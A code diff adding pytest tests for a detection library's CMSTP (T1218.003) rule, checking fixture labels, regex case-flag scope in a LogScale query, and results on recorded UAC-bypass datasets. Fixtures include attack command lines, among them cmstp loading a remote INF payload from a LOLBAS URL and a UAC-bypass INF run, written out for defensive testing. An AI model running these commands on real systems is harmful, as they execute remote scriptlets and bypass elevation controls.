@@ -7,13 +7,19 @@ read the same way: ``(?i)``, alternation, groups, ``?`` and ``$``.
 
 from __future__ import annotations
 
+import json
 import re
+from pathlib import Path
 
 import pytest
 
 from cqlkit.detections import Detection, find_detections
+from cqlkit.engines.reference.context import RunContext
+from cqlkit.engines.reference.interpreter import run_plan
 from cqlkit.language import ast
 from cqlkit.language.parser import parse
+from cqlkit.plan.planner import plan_query
+from cqlkit.sources import read_events
 
 # Published form: Name := if(Field = ~/regex/, "1", "0")
 PUBLISHED_INDICATOR = re.compile(
@@ -225,3 +231,177 @@ def test_indicator_values(
 
     for name, value in expected.items():
         assert flags[name] == value, f"{name} for {command_line!r} (parent {parent})"
+
+
+# Fixture id, verdict, event formats, tuning sets that suppress it.
+CMSTP_FIXTURES = [
+    ("art-t1218-003-test-1-remote-scriptlet", "malicious", ("fdr", "winlogbeat"), ()),
+    ("art-t1218-003-test-2-uac-bypass", "malicious", ("fdr", "winlogbeat"), ()),
+    ("cobalt-group-txt-profile", "malicious", ("fdr", "winlogbeat"), ()),
+    ("interactive-corp-profile", "benign", ("fdr", "winlogbeat"), ("corp_profiles",)),
+    ("intune-vpn-rollout", "benign", ("fdr", "winlogbeat"), ("intune",)),
+    ("lolbas-local-inf", "malicious", ("fdr", "winlogbeat"), ()),
+    ("lolbas-remote-inf", "malicious", ("fdr", "winlogbeat"), ()),
+    ("profile-path-with-src", "benign", ("fdr", "winlogbeat"), ()),
+    ("regsvr32-cmstp-scriptlet", "unrelated", ("fdr", "winlogbeat"), ()),
+    ("renamed-cmstp", "malicious", ("fdr", "winlogbeat"), ()),
+    ("sccm-vpn-rollout", "benign", ("fdr", "winlogbeat"), ("sccm",)),
+    ("synthetic-process-rollup", "malicious", ("fdr",), ()),
+    ("tanium-vpn-rollout", "benign", ("fdr", "winlogbeat"), ("tanium",)),
+    ("uppercase-switches", "malicious", ("fdr", "winlogbeat"), ()),
+    ("winpwnage-ini-profile", "malicious", ("fdr", "winlogbeat"), ()),
+]
+
+
+def test_fixture_list(cmstp: Detection) -> None:
+    fixtures = [
+        (f.id, f.verdict, tuple(f.events), tuple(sorted(f.suppressed_by))) for f in cmstp.fixtures
+    ]
+
+    assert fixtures == CMSTP_FIXTURES
+
+
+def test_fixtures_are_labelled_synthetic(cmstp: Detection) -> None:
+    assert all(fixture.synthetic for fixture in cmstp.fixtures)
+    assert all(set(fixture.expectations) == set(cmstp.queries) for fixture in cmstp.fixtures)
+
+
+@pytest.mark.parametrize(
+    ("fixture_id", "command_line"),
+    [
+        (
+            "art-t1218-003-test-1-remote-scriptlet",
+            r'cmstp.exe /s "C:\AtomicRedTeam\atomics\T1218.003\src\T1218.003.inf"',
+        ),
+        (
+            "art-t1218-003-test-2-uac-bypass",
+            r'cmstp.exe /s "C:\AtomicRedTeam\atomics\T1218.003\src\T1218.003_uacbypass.inf" /au',
+        ),
+        (
+            "art-t1218-003-test-2-uac-bypass",
+            r"C:\Windows\system32\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
+        ),
+        (
+            "cobalt-group-txt-profile",
+            r"cmstp.exe /s /ns C:\Users\ADMINI~W\AppData\Local\Temp\XKNqbpzl.txt",
+        ),
+        ("lolbas-local-inf", r"cmstp.exe /ni /s c:\cmstp\CorpVPN.inf"),
+        (
+            "lolbas-remote-inf",
+            "cmstp.exe /ni /s https://raw.githubusercontent.com/api0cradle/LOLBAS/master/"
+            "OSBinaries/Payload/Cmstp.inf",
+        ),
+        ("interactive-corp-profile", r"cmstp.exe C:\Corp\Profiles\CorpVPN.inf"),
+    ],
+)
+def test_fixture_events_use_procedure_command_lines(
+    cmstp: Detection, fixture_id: str, command_line: str
+) -> None:
+    """The events carry the procedures' command lines exactly, in every event file."""
+    (fixture,) = [f for f in cmstp.fixtures if f.id == fixture_id]
+    for event_format, path in fixture.events.items():
+        lines = path.read_text(encoding="utf-8").splitlines()
+        command_lines = [json.loads(line)["CommandLine"] for line in lines]
+        assert command_line in command_lines, f"{fixture_id} {event_format}"
+
+
+def test_raw_fdr_fixture_fields(cmstp: Detection) -> None:
+    """FDR events are raw: string values, device paths and no host or user name."""
+    for fixture in cmstp.fixtures:
+        for line in fixture.events["fdr"].read_text(encoding="utf-8").splitlines():
+            record = json.loads(line)
+            assert all(isinstance(value, str) for value in record.values()), fixture.id
+            assert record["ImageFileName"].startswith("\\Device\\HarddiskVolume2\\"), fixture.id
+            assert record["timestamp"].isdigit(), fixture.id
+            assert "ComputerName" not in record, fixture.id
+            assert "UserName" not in record, fixture.id
+
+
+def top_level_alternation_after_case_flag(pattern: str) -> bool:
+    """Return True when ``pattern`` starts with (?i) and has a | outside every group.
+
+    LogScale ends an inline (?i) at such a |, so the alternatives after it match case.
+    """
+    if not pattern.startswith("(?i)"):
+        return False
+    depth, index, in_class = 0, 4, False
+    while index < len(pattern):
+        char = pattern[index]
+        if char == "\\":
+            index += 2
+            continue
+        if in_class:
+            in_class = char != "]"
+        elif char == "[":
+            in_class = True
+        elif char == "(":
+            depth += 1
+        elif char == ")":
+            depth -= 1
+        elif char == "|" and depth == 0:
+            return True
+        index += 1
+    return False
+
+
+def test_case_flag_scope_check() -> None:
+    assert top_level_alternation_after_case_flag(r"(?i)\/s|\/au")
+    assert not top_level_alternation_after_case_flag(r"(?i)(\/s|\/au)")
+    assert not top_level_alternation_after_case_flag(r"(?i)[|](a|b)")
+    assert not top_level_alternation_after_case_flag(r"a|b")
+
+
+def test_tuned_query_groups_alternations_after_case_flag(cmstp: Detection) -> None:
+    patterns = [
+        unescape_cql_string(match)
+        for match in re.findall(r'regex\("((?:[^"\\]|\\.)*)"', cmstp.query("tuned"))
+    ]
+
+    assert len(patterns) == 9
+    assert [p for p in patterns if top_level_alternation_after_case_flag(p)] == []
+
+
+def test_published_query_has_ungrouped_case_flag(cmstp: Detection) -> None:
+    flagged = [
+        name
+        for name, (_, pattern) in published_indicators(cmstp.query("published")).items()
+        if top_level_alternation_after_case_flag(pattern)
+    ]
+
+    assert flagged == ["AutoClose", "NoUI"]
+
+
+def test_tuned_query_searches_both_event_types(cmstp: Detection) -> None:
+    first_line = next(
+        line for line in cmstp.query("tuned").splitlines() if not line.startswith("//")
+    )
+
+    assert first_line == "#event_simpleName=/^(ProcessRollup2|SyntheticProcessRollup2)$/"
+
+
+DATA = Path(__file__).resolve().parents[2] / "data"
+
+
+def test_tuned_query_on_uac_bypass_recordings(cmstp: Detection) -> None:
+    """On the real UAC-bypass recordings the tuned query also reports the elevated cmd.exe."""
+    paths = [
+        DATA / "OTRF_Security-Datasets/psh_cmstp_execution_bypassuac.zip",
+        DATA / "sbousseaden_EVTX-ATTACK-SAMPLES/sysmon_1_13_11_cmstp_ini_uacbypass.evtx",
+    ]
+    plan = plan_query(cmstp.query("tuned"))
+
+    rows = run_plan(plan, read_events(paths), RunContext())
+
+    found = sorted((row["ComputerName"], row["FileName"], row["RiskScore"]) for row in rows)
+    # The OTRF recording logs each process twice, as Sysmon event 1 and as Security 4688.
+    assert found == [
+        ("IEWIN7", "cmd.exe", "2"),
+        ("IEWIN7", "cmstp.exe", "4"),
+        ("WORKSTATION5", "cmd.exe", "2"),
+        ("WORKSTATION5", "cmd.exe", "2"),
+        ("WORKSTATION5", "cmstp.exe", "4"),
+        ("WORKSTATION5", "cmstp.exe", "4"),
+    ]
+    assert {row["ParentBaseFileName"].lower() for row in rows if row["FileName"] == "cmd.exe"} == {
+        "dllhost.exe"
+    }
